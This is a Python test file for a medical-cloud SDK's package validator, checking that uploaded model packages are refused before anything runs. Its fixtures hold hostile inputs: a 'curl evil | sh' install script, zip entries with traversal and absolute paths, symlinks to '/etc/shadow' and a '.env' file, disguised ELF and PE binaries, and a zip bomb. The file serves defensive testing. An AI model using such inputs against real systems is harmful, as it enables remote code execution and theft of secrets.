"""Static validation: packages refused before anything runs, each problem naming the file and the line."""

from __future__ import annotations

import io
import stat
import zipfile
from pathlib import Path

import numpy as np
import pytest

from medcloud.sdk.validate import PackageError, ValidationLimits, extract_package, package_sha256, validate_package
from tests.sdk.conftest import DEFAULT_MAIN, TEMPLATE


def _zip_from_dir(src: Path, dest: Path, extra: list[tuple[zipfile.ZipInfo | str, bytes]] = ()) -> Path:
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zf:
        for p in sorted(src.rglob("*")):
            if p.is_file() and "__pycache__" not in p.parts:
                zf.write(p, p.relative_to(src).as_posix())
        for info, data in extra:
            zf.writestr(info, data)
    return dest


def _find(problems, file: str, words: str):
    hits = [p for p in problems if p.file == file and words.lower() in p.message.lower()]
    assert hits, f"expected a problem on {file} mentioning {words!r}; got {[str(p) for p in problems]}"
    return hits[0]


def test_template_is_valid_as_folder_and_zip(tmp_path):
    assert validate_package(TEMPLATE) == [], "the template package must pass validation"
    z = _zip_from_dir(TEMPLATE, tmp_path / "t.zip")
    assert validate_package(z) == [], "the template zipped must pass validation"


def test_zip_inside_one_top_folder_is_accepted(tmp_path):
    z = tmp_path / "t.zip"
    with zipfile.ZipFile(z, "w") as zf:
        for p in TEMPLATE.iterdir():
            if p.is_file():
                zf.write(p, f"mymodel/{p.name}")
    assert validate_package(z) == []
    dest = extract_package(z, tmp_path / "x")
    assert (dest / "main.py").is_file() and not (dest / "mymodel").exists()


def test_zip_with_parent_path_is_refused(tmp_path):
    z = _zip_from_dir(TEMPLATE, tmp_path / "t.zip", [("../evil.py", b"x = 1\n")])
    p = _find(validate_package(z), "../evil.py", "traversal")
    assert p.line == 0
    with pytest.raises(PackageError, match="traversal"):
        extract_package(z, tmp_path / "out")
    assert not (tmp_path / "out").exists(), "a refused extraction must leave nothing behind"
    assert not (tmp_path / "evil.py").exists()


def test_zip_with_absolute_path_is_refused(tmp_path):
    z = _zip_from_dir(TEMPLATE, tmp_path / "t.zip", [("/etc/cron.d/evil.txt", b"x")])
    _find(validate_package(z), "/etc/cron.d/evil.txt", "absolute path")


def test_symlink_is_refused_in_zip_and_folder(tmp_path, make_package):
    info = zipfile.ZipInfo("weights.npy")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    z = _zip_from_dir(TEMPLATE, tmp_path / "t.zip", [(info, b"/work/main/.env")])
    _find(validate_package(z), "weights.npy", "symbolic link")
    with pytest.raises(PackageError, match="symbolic"):
        extract_package(z, tmp_path / "out")
    pkg = make_package()
    (pkg / "secrets.txt").symlink_to("/etc/shadow")
    _find(validate_package(pkg), "secrets.txt", "symbolic link")


def test_native_library_is_refused(make_package):
    pkg = make_package(files={"fast.so": b"\x7fELF\x02\x01\x01" + b"\0" * 60})
    _find(validate_package(pkg), "fast.so", "native code")


def test_elf_renamed_bin_is_refused(make_package):
    elf = Path("/bin/true").read_bytes()[:4096]
    pkg = make_package(files={"weights.bin": elf})
    _find(validate_package(pkg), "weights.bin", "ELF")


def test_pe_in_png_is_refused(make_package):
    pkg = make_package(files={"logo.png": b"MZ\x90\x00" + b"\0" * 100})
    _find(validate_package(pkg), "logo.png", "Windows PE")


def test_disallowed_file_type_is_refused(make_package):
    pkg = make_package(files={"install.sh": "curl evil | sh\n"})
    _find(validate_package(pkg), "install.sh", "file type '.sh' is not allowed")


def test_fifo_is_refused(make_package):
    import os

    pkg = make_package()
    os.mkfifo(pkg / "pipe.txt")
    _find(validate_package(pkg), "pipe.txt", "FIFO")


def test_missing_files_are_named(tmp_path):
    (tmp_path / "empty").mkdir()
    problems = validate_package(tmp_path / "empty")
    _find(problems, "main.py", "missing")
    _find(problems, "model.toml", "missing")


def test_syntax_error_names_the_line(make_package):
    pkg = make_package("x = 1\ndef broken(:\n")
    p = _find(validate_package(pkg), "main.py", "syntax error")
    assert p.line == 2


def test_missing_run_is_refused(make_package):
    main = DEFAULT_MAIN.replace("    def run(self, series, context):\n        return Results()\n", "    pass\n")
    p = _find(validate_package(make_package(main)), "main.py", "no run(self, series, context)")
    assert p.line == main.splitlines().index("class App(Application):") + 1, "the problem points at the Application"


def test_run_with_wrong_signature_is_refused(make_package):
    main = DEFAULT_MAIN.replace("def run(self, series, context):", "def run(self, series):")
    p = _find(validate_package(make_package(main)), "main.py", "exactly (self, series, context)")
    assert p.line == main.splitlines().index("    def run(self, series):") + 1


def test_async_or_static_run_is_refused(make_package):
    main = DEFAULT_MAIN.replace("def run(self, series, context):", "async def run(self, series, context):")
    _find(validate_package(make_package(main)), "main.py", "not async")
    main = DEFAULT_MAIN.replace(
        "    def run(self, series, context):", "    @staticmethod\n    def run(self, series, context):"
    )
    _find(validate_package(make_package(main)), "main.py", "instance method")


def test_two_applications_are_refused(make_package):
    main = DEFAULT_MAIN + "\n\nclass Other(App):\n    pass\n"
    p = _find(validate_package(make_package(main)), "main.py", "second Application")
    assert p.line == main.splitlines().index("class Other(App):") + 1


def test_no_application_is_refused(make_package):
    main = DEFAULT_MAIN.split("class App")[0]
    _find(validate_package(make_package(main)), "main.py", "no class inheriting Application")


def test_undeclared_infer_type_is_refused(make_package):
    main = DEFAULT_MAIN.replace("InferType.SEGMENTATION", "InferType.REGRESSION")
    p = _find(validate_package(make_package(main)), "main.py", "InferType.REGRESSION is not an InferType")
    assert p.line == main.splitlines().index("    type = InferType.REGRESSION") + 1


def test_labels_must_be_literal(make_package):
    main = DEFAULT_MAIN.replace('labels = ("thing",)', "labels = make_labels()")
    p = _find(validate_package(make_package(main)), "main.py", "labels must be a literal")
    assert p.line == main.splitlines().index("    labels = make_labels()") + 1


def test_manifest_tasks_must_match(make_package):
    p = _find(validate_package(make_package(tasks='["Seg", "Ghost"]')), "model.toml", "do not match")
    assert p.line == 4


def test_requirement_not_installed_is_refused(make_package):
    pkg = make_package(requirements='["numpy", "definitely-not-installed-xyz"]')
    p = _find(validate_package(pkg), "model.toml", "not installed in the platform's environment")
    assert p.line == 5 and "definitely-not-installed-xyz" in p.message


def test_requirement_with_version_or_platform_package_is_refused(make_package):
    _find(validate_package(make_package(requirements='["numpy>=2"]')), "model.toml", "distribution name only")
    _find(validate_package(make_package(requirements='["Django"]')), "model.toml", "part of the platform")


def test_imports_must_be_declared_and_available(make_package):
    main = "import numpy\nimport not_a_module_xyz\nfrom medcloud.crypto import keys\n" + DEFAULT_MAIN
    problems = validate_package(make_package(main))
    assert _find(problems, "main.py", "import numpy: declare").line == 1
    assert _find(problems, "main.py", "import not_a_module_xyz: no package").line == 2
    assert _find(problems, "main.py", "only medcloud.sdk").line == 3
    assert validate_package(make_package(DEFAULT_MAIN + "\nimport numpy\n", requirements='["numpy"]')) == []


def test_limits_on_sizes_and_counts(make_package):
    pkg = make_package(files={f"w{i}.npy": b"\x93NUMPY" + b"\0" * 100 for i in range(5)})
    problems = validate_package(pkg, ValidationLimits(max_files=4, max_total_bytes=300, max_file_bytes=50))
    _find(problems, ".", "more than the limit of 4")
    _find(problems, ".", "bytes in all")
    _find(problems, "w0.npy", "more than the limit of 50")


def test_zip_bomb_ratio_is_refused(tmp_path):
    buf = io.BytesIO()
    np.save(buf, np.zeros(8 << 20, dtype=np.uint8))
    z = _zip_from_dir(TEMPLATE, tmp_path / "t.zip", [("weights.npy", buf.getvalue())])
    _find(validate_package(z), "weights.npy", "compression ratio")
    with pytest.raises(PackageError, match="ratio"):
        extract_package(z, tmp_path / "out")


def test_extract_writes_plain_files(tmp_path):
    z = _zip_from_dir(TEMPLATE, tmp_path / "t.zip")
    dest = extract_package(z, tmp_path / "x")
    assert sorted(p.name for p in dest.iterdir()) == sorted(p.name for p in TEMPLATE.iterdir() if p.is_file())
    assert all((p.stat().st_mode & 0o777) == 0o644 for p in dest.iterdir())
    assert package_sha256(dest) == package_sha256(TEMPLATE), "the folder hash depends only on the files"
    assert package_sha256(z) != package_sha256(TEMPLATE)
    assert len(package_sha256(z)) == 64


def test_validation_never_imports_the_package(make_package, tmp_path):
    marker = tmp_path / "imported"
    main = f"open({str(marker)!r}, 'w').write('x')\n" + DEFAULT_MAIN
    validate_package(make_package(main))
    assert not marker.exists(), "validate_package executed main.py"
